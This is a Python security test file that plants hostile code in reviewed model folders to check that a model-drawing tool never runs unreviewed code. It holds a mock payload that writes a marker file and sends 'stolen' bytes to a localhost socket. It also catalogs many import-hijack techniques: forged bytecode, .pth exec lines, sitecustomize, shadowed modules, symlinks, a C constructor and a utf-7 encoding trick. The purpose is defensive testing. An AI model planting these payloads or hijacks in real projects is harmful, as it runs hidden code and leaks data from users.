"""40 hostile folders around a reviewed model, and a stranger at every socket: `python -m tests.slow.hostile_folders`.

Each folder is reviewed while it is harmless. Then somebody plants something in it, or copies the reviewed file to a
folder of theirs, and the model is drawn again without a new review. What is planted leaves a mark and sends bytes to a
port that listens here: neither may happen.
"""

from __future__ import annotations

import importlib.util
import io
import marshal
import os
import py_compile
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import zipfile
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout, suppress
from pathlib import Path
from typing import NamedTuple

from tests.support import strangers

NET = """from torch import nn
{imports}

class Net(nn.Sequential):
    def __init__(self):
        super().__init__(nn.Linear(4, 3))
"""
EVIL = """import pathlib as _pathlib, socket as _socket
_pathlib.Path({mark!r}).touch()
_line = _socket.create_connection(("127.0.0.1", {port}), 2)
_line.sendall(b"stolen")
_line.close()
"""
# What a model needs of each name that somebody may hide.
LIKE = "from {name} import *\n"


class Attack(NamedTuple):
    """`plant(folder, evil)` puts the text `evil` somewhere; the reviewed files are those of `before`."""

    name: str
    plant: Callable[[Path, str], None]
    before: dict[str, str] = {}
    source: str = "net.py:Net"


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def planted(name: str) -> Callable[[Path, str], None]:
    """Plant a file."""
    return lambda folder, evil: write(folder / name, evil)


def changed(name: str) -> Callable[[Path, str], None]:
    """Change a file that was reviewed, with its size and time of change as they were."""

    def change(folder: Path, evil: str) -> None:
        path = folder / name
        before, facts = path.read_text(), path.stat()
        path.write_text(evil + before)
        os.utime(path, ns=(facts.st_atime_ns, facts.st_mtime_ns))

    return change


def bytecode(
    name: str, mode: py_compile.PycInvalidationMode | None
) -> Callable[[Path, str], None]:
    """Plant bytecode beside a reviewed text; of mode None with the time and size of the text."""

    def plant(folder: Path, evil: str) -> None:
        path = folder / name
        target = importlib.util.cache_from_source(str(path))
        Path(target).parent.mkdir(exist_ok=True)
        if mode is not None:
            other = folder.parent / "other.py"
            other.write_text(evil + path.read_text())
            py_compile.compile(str(other), target, invalidation_mode=mode)
        if mode is None or mode is py_compile.PycInvalidationMode.CHECKED_HASH:
            code = compile(evil + path.read_text(), str(path), "exec")
            facts, head = path.stat(), importlib.util.MAGIC_NUMBER
            tail = (0).to_bytes(4, "little") + int(facts.st_mtime).to_bytes(4, "little")
            tail += facts.st_size.to_bytes(4, "little")
            if mode is not None:
                tail = (3).to_bytes(4, "little") + importlib.util.source_hash(
                    path.read_bytes()
                )
            Path(target).write_bytes(head + tail + marshal.dumps(code))

    return plant


def sourceless(name: str) -> Callable[[Path, str], None]:
    def plant(folder: Path, evil: str) -> None:
        text = folder.parent / "sourceless.py"
        text.write_text(evil)
        py_compile.compile(str(text), str(folder / name))

    return plant


def extension(name: str) -> Callable[[Path, str], None]:
    """Plant compiled code that runs when it is loaded."""

    def plant(folder: Path, evil: str) -> None:
        mark = evil.split("Path('")[1].split("'")[0]
        code = folder.parent / "evil.c"
        code.write_text(
            f'#include <stdio.h>\n__attribute__((constructor)) void f(void){{fopen("{mark}","w");}}\n'
        )
        target = folder / f"{name}{importlib.machinery.EXTENSION_SUFFIXES[0]}"
        subprocess.run(
            ["cc", "-shared", "-fPIC", "-o", str(target), str(code)],
            check=True,
            capture_output=True,
        )

    return plant


def zipped(folder: Path, evil: str) -> None:
    with zipfile.ZipFile(folder / "parts.zip", "w") as archive:
        archive.writestr("zipped_parts.py", evil)


def linked(folder: Path, evil: str) -> None:
    elsewhere = folder.parent / "elsewhere.py"
    elsewhere.write_text(evil)
    (folder / "parts.py").unlink()
    (folder / "parts.py").symlink_to(elsewhere)


def linked_folder(folder: Path, evil: str) -> None:
    elsewhere = folder.parent / "elsewhere"
    shutil.move(folder / "pk", elsewhere)
    write(elsewhere / "parts.py", evil)
    (folder / "pk").symlink_to(elsewhere)


def package_over_module(folder: Path, evil: str) -> None:
    write(folder / "parts" / "__init__.py", evil)


def setting_path(folder: Path, evil: str) -> None:
    write(folder / "evil.pth", f"import os; exec({evil!r})\n")


UNCHECKED, CHECKED = (
    py_compile.PycInvalidationMode.UNCHECKED_HASH,
    py_compile.PycInvalidationMode.CHECKED_HASH,
)
ALONE = {"net.py": NET.format(imports="")}
WITH_PARTS = {"net.py": NET.format(imports="import parts\n"), "parts.py": "WIDTH = 3\n"}
PACKAGE = {
    "pk/net.py": NET.format(imports="from . import parts\n"),
    "pk/parts.py": "WIDTH = 3\n",
}
INIT = {**PACKAGE, "pk/__init__.py": ""}


def importing(line: str) -> dict[str, str]:
    return {"net.py": NET.format(imports=line + "\n"), "parts.py": "WIDTH = 3\n"}


ATTACKS = (
    Attack("another neighbour", changed("parts.py"), WITH_PARTS),
    Attack("a reviewed file, edited", changed("net.py"), ALONE),
    Attack(
        "a neighbour of a function",
        changed("parts.py"),
        importing("def late():\n    import parts\nlate()"),
    ),
    Attack(
        "a neighbour's neighbour",
        planted("deep.py"),
        {
            **WITH_PARTS,
            "parts.py": "try:\n    import deep\nexcept ImportError:\n    pass\n",
        },
    ),
    Attack("bytecode, unchecked hash", bytecode("net.py", UNCHECKED), ALONE),
    Attack("bytecode, checked hash", bytecode("net.py", CHECKED), ALONE),
    Attack("bytecode, time and size", bytecode("net.py", None), ALONE),
    Attack(
        "bytecode of a neighbour, unchecked",
        bytecode("parts.py", UNCHECKED),
        WITH_PARTS,
    ),
    Attack(
        "bytecode of a neighbour, time and size", bytecode("parts.py", None), WITH_PARTS
    ),
    Attack(
        "bytecode of a package",
        bytecode("pk/__init__.py", UNCHECKED),
        INIT,
        "pk/net.py:Net",
    ),
    Attack(
        "bytecode without source",
        sourceless("deep.pyc"),
        importing("try:\n    import deep\nexcept ImportError:\n    0"),
    ),
    Attack("a new __init__.py", planted("pk/__init__.py"), PACKAGE, "pk/net.py:Net"),
    Attack("an edited __init__.py", changed("pk/__init__.py"), INIT, "pk/net.py:Net"),
    Attack("an __init__.py above", planted("__init__.py"), INIT, "pk/net.py:Net"),
    Attack("a relative import", changed("pk/parts.py"), INIT, "pk/net.py:Net"),
    Attack(
        "a part of a namespace package",
        changed("pk/parts.py"),
        {"net.py": NET.format(imports="import pk.parts\n"), "pk/parts.py": ""},
    ),
    Attack(
        "a namespace package turned into a package",
        planted("pk/__init__.py"),
        {"net.py": NET.format(imports="import pk.parts\n"), "pk/parts.py": ""},
    ),
    Attack("a package in place of a module", package_over_module, WITH_PARTS),
    Attack("a link in place of a file", linked, WITH_PARTS),
    Attack("a link in place of a folder", linked_folder, INIT, "pk/net.py:Net"),
    Attack("compiled code in place of a module", extension("parts"), WITH_PARTS),
    Attack(
        "compiled code of a new name",
        extension("deep"),
        importing("try:\n    import deep\nexcept ImportError:\n    0"),
    ),
    Attack(
        "a zipped module",
        zipped,
        importing(
            "import sys\nsys.path.insert(0, __file__[:-6] + 'parts.zip')\n"
            "try:\n    import zipped_parts\nexcept ImportError:\n    0"
        ),
    ),
    Attack("torch", planted("torch.py"), ALONE),
    Attack("torch as a package", planted("torch/__init__.py"), ALONE),
    Attack("numpy", planted("numpy.py"), importing("import numpy")),
    Attack(
        "a module of the standard library",
        planted("random.py"),
        importing("import random"),
    ),
    Attack(
        "one that is loaded late", planted("colorsys.py"), importing("import colorsys")
    ),
    Attack(
        "what an installed package imports",
        planted("lightning_utilities.py"),
        importing("import torchmetrics"),
    ),
    Attack(
        "an installed package",
        planted("torchmetrics/__init__.py"),
        importing("import torchmetrics"),
    ),
    Attack("sitecustomize", planted("sitecustomize.py"), ALONE),
    Attack("usercustomize", planted("usercustomize.py"), ALONE),
    Attack("conftest", planted("conftest.py"), ALONE),
    Attack("a .pth file", setting_path, ALONE),
    Attack(
        "import_module of a computed name",
        planted("deep.py"),
        importing(
            "import importlib\ntry:\n    importlib.import_module('de' + 'ep')\nexcept ImportError:\n    0"
        ),
    ),
    Attack(
        "__import__ of a computed name",
        planted("deep.py"),
        importing("try:\n    __import__('de' + 'ep')\nexcept ImportError:\n    0"),
    ),
    Attack(
        "every module of a folder",
        planted("plugins/deep.py"),
        {
            **importing(
                "import importlib, pkgutil, plugins\nfor one in pkgutil.iter_modules(plugins.__path__):\n"
                "    importlib.import_module('plugins.' + one.name)"
            ),
            "plugins/__init__.py": "",
        },
    ),
    Attack(
        "a star import",
        changed("pk/parts.py"),
        {
            "net.py": NET.format(imports="from pk import *\n"),
            "pk/__init__.py": "__all__ = ['parts']\n",
            "pk/parts.py": "",
        },
    ),
    Attack(
        "a folder that a neighbour puts on sys.path",
        planted("lib/deep.py"),
        importing(
            "import sys\nsys.path.insert(0, __file__[:-6] + 'lib')\n"
            "try:\n    import deep\nexcept ImportError:\n    0"
        ),
    ),
    Attack(
        "an encoding that reads otherwise than it runs",
        changed("parts.py"),
        {**WITH_PARTS, "parts.py": "# -*- coding: utf-7 -*-\nWIDTH = 3\n"},
    ),
)


class Listener:
    """Counts the bytes that arrive at a port of this machine."""

    def __init__(self) -> None:
        self.received = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                line, _ = self._socket.accept()
                while data := line.recv(4096):
                    self.received += len(data)

    def close(self) -> None:
        self._socket.close()


def ran(attack: Attack, home: Path, listener: Listener) -> str:
    """Return what went wrong in a reviewed folder, and in a copy of it, once something is planted; "" if nothing."""
    mark = home / "mark"
    evil = EVIL.format(mark=str(mark), port=listener.port)
    mine, theirs = home / "mine", home / "theirs"
    for name, text in attack.before.items():
        write(mine / name, text)
    if drawn(mine, attack.source, "--trust"):
        return "the harmless model is not drawn"
    shutil.copytree(mine, theirs)
    for folder in (mine, theirs):
        attack.plant(folder, evil)
        drawn(folder, attack.source)
    if mark.exists():
        return "code that nobody reviewed ran"
    return "bytes were sent" if listener.received else ""


def raced(home: Path, listener: Listener) -> str:
    """Change a neighbour again and again between harmless and evil while the model is drawn."""
    mark, folder, over = home / "mark", home / "mine", threading.Event()
    evil = EVIL.format(mark=str(mark), port=listener.port)
    for name, text in WITH_PARTS.items():
        write(folder / name, text)
    if drawn(folder, "net.py:Net", "--trust"):
        return "the harmless model is not drawn"

    def change() -> None:
        while not over.is_set():
            for text in (evil, "WIDTH = 3\n"):
                (folder / "parts.next").write_text(text)
                os.replace(folder / "parts.next", folder / "parts.py")

    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(5):
            drawn(folder, "net.py:Net")
    finally:
        over.set()
        thread.join()
    if mark.exists():
        return "code that nobody reviewed ran"
    return "bytes were sent" if listener.received else ""


def drawn(folder: Path, source: str, *options: str) -> int:
    """Draw the model as the command does; return its exit code."""
    from app.main import main
    from app.source import layer_files

    layer_files.trust_only((), ())  # as each command begins
    here = Path.cwd()
    os.chdir(folder)
    try:
        with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
            return main(
                [
                    "draw",
                    source,
                    "--input",
                    "1x4",
                    "--out",
                    str(folder.parent / "picture.json"),
                    *options,
                ]
            )
    finally:
        os.chdir(here)


def attacked(attack: Attack) -> str:
    """Return what went wrong with an attack, "" if nothing."""
    listener = Listener()
    with tempfile.TemporaryDirectory() as home:
        try:
            return ran(attack, Path(home).resolve(), listener)
        finally:
            listener.close()


def main() -> int:
    """Try every folder and every socket, print a row for each, and return 1 if anything went wrong."""
    faults = 0
    with tempfile.TemporaryDirectory() as settings:
        os.environ["XDG_CONFIG_HOME"] = settings
        for attack in ATTACKS:
            wrong = attacked(attack)
            faults += bool(wrong)
            print(
                f"{attack.name:<52} {wrong or 'nothing ran, nothing was sent'}",
                flush=True,
            )
        listener = Listener()
        with tempfile.TemporaryDirectory() as home:
            wrong = raced(Path(home).resolve(), listener)
        faults += bool(wrong)
        print(
            f"{'a change between check and import':<52} {wrong or 'nothing ran, nothing was sent'}"
        )
    for name, outcome in strangers.tried():
        faults += not outcome.startswith("refused")
        print(f"{'a stranger at ' + name:<52} {outcome}")
    print(f"{len(ATTACKS) + 1} folders, {faults} faults")
    return int(faults > 0)


if __name__ == "__main__":
    sys.exit(main())
